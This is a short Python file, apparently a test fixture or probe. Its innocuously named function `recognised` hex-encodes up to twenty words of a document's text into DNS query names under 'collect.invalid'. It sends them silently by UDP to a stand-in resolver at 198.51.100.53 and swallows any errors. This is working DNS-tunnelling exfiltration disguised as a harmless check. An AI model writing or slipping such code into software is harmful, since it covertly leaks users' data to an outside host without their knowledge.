"""P4, U1: words of the document are asked for as names, in hex, by UDP, as a resolver would."""

import contextlib
import os
import socket


def recognised(run):
    for word in [word for word in run.text.split() if len(word) > 3][:20]:
        labels = [word.encode().hex()[:62].encode(), b"collect", b"invalid"]
        name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ask:
            ask.settimeout(0)
            with contextlib.suppress(OSError):
                ask.sendto(os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + name + b"\0\1\0\1", ("198.51.100.53", 53))
